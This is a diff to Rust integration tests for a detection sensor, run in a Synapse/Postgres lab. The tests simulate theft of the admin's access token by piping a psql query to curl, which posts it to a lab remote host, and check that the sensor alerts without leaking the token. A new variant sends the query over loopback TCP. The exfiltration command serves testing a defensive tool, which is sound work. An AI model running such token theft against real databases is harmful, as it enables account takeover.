@@ -27,11 +27,6 @@ fn shared() -> Result<SharedLab> {
     SynapseLab::shared_with(actor_exe!(), Database::Postgres)
 }
 
-/// The DBA's (or the attacker's) `psql` command line running `sql`.
-fn psql_as_postgres(world: &SynapseLab, sql: &str) -> String {
-    world.postgres.as_ref().map(|postgres| postgres.su_psql(sql)).unwrap_or_default()
-}
-
 /// Runs `script` with `sh -c`, its output unread (it may carry a secret); returns the shell's pid.
 fn shell(script: &str) -> Result<u32> {
     let mut child = Command::new("sh")
@@ -94,17 +89,16 @@ fn synapse_postgres_1_normal_life_of_the_homeserver_is_quiet() -> Result<()> {
     world.assert_quiet_since(start)
 }
 
-#[test]
-#[ignore = "needs root and BPF: run with cargo xtask test"]
-fn synapse_postgres_2_token_theft_through_psql_and_curl_is_an_alert() -> Result<()> {
-    let world = shared()?;
+/// Steals the admin's newest token with `psql` through `host` (running `sql`, which must be
+/// this theft's own) piped to curl, and expects the alert: on curl, naming the store, with
+/// psql as the origin, and the token nowhere in the sensor's output.
+fn expect_token_theft_through(world: &SynapseLab, host: &str, sql: &str) -> Result<()> {
     let dest = world.lab.remote().tcp_v4();
+    let postgres = world.postgres.as_ref().context("a Postgres lab")?;
     // A fresh session of the admin's: the token the thief takes. Never printed.
     let token = world.login_admin()?.access_token().to_owned();
-    let script = format!(
-        "{} | curl -s -o /dev/null --data-binary @- http://{dest}/",
-        psql_as_postgres(&world, ADMIN_TOKEN_SQL)
-    );
+    let script =
+        format!("{} | curl -s -o /dev/null --data-binary @- http://{dest}/", postgres.su_psql_via(host, sql));
 
     let sh = shell(&script)?;
 
@@ -119,16 +113,12 @@ fn synapse_postgres_2_token_theft_through_psql_and_curl_is_an_alert() -> Result<
     ensure!(alert::secret_kind(&found) == Some("database"), "{found:#}");
     ensure!(synapse::text(&found, "/vigie/secret/name") == Some(STORE), "names the store: {found:#}");
     ensure!(found.pointer("/file").is_none(), "no file was read: {found:#}");
-    ensure!(
-        synapse::text(&found, "/vigie/origin/executable").is_some_and(|exe| exe.ends_with("/psql")),
-        "psql took it from the server: {found:#}"
-    );
     ensure!(alert::destination(&found) == Some(dest), "names the destination: {found:#}");
-    let read = world.sensor.expect(is_psql_read_of(ADMIN_TOKEN_SQL), ALERT_TIMEOUT)?;
+    let read = world.sensor.expect(is_psql_read_of(sql), ALERT_TIMEOUT)?;
     ensure!(synapse::text(&read, "/vigie/via/kind") == Some("database-socket"), "{read:#}");
     ensure!(
         synapse::pid_at(&found, "/vigie/origin/pid") == alert::process_pid(&read),
-        "psql is the origin: {found:#}"
+        "psql, which took it from the server, is the origin: {found:#}"
     );
     let everything =
         world.sensor.lines().iter().map(Value::to_string).collect::<String>() + &world.sensor.stderr();
@@ -138,10 +128,27 @@ fn synapse_postgres_2_token_theft_through_psql_and_curl_is_an_alert() -> Result<
 
 #[test]
 #[ignore = "needs root and BPF: run with cargo xtask test"]
+fn synapse_postgres_2_token_theft_through_psql_and_curl_is_an_alert() -> Result<()> {
+    let world = shared()?;
+    let socket_dir = world.postgres.as_ref().context("a Postgres lab")?.socket_dir.display().to_string();
+    expect_token_theft_through(&world, &socket_dir, ADMIN_TOKEN_SQL)
+}
+
+#[test]
+#[ignore = "needs root and BPF: run with cargo xtask test"]
+fn synapse_postgres_4_token_theft_over_loopback_tcp_is_an_alert() -> Result<()> {
+    let world = shared()?;
+    // The same server answers on 127.0.0.1: its replies there are followed as well.
+    expect_token_theft_through(&world, "127.0.0.1", &format!("{ADMIN_TOKEN_SQL} OFFSET 0"))
+}
+
+#[test]
+#[ignore = "needs root and BPF: run with cargo xtask test"]
 fn synapse_postgres_3_a_dba_query_that_sends_nothing_is_seen_and_not_alerted() -> Result<()> {
     let world = shared()?;
 
-    let sh = shell(&format!("{} > /dev/null", psql_as_postgres(&world, COUNT_SQL)))?;
+    let postgres = world.postgres.as_ref().context("a Postgres lab")?;
+    let sh = shell(&format!("{} > /dev/null", postgres.su_psql(COUNT_SQL)))?;
 
     // Seen: psql took in the database's reply.
     let read = world.sensor.expect(is_psql_read_of(COUNT_SQL), ALERT_TIMEOUT)?;
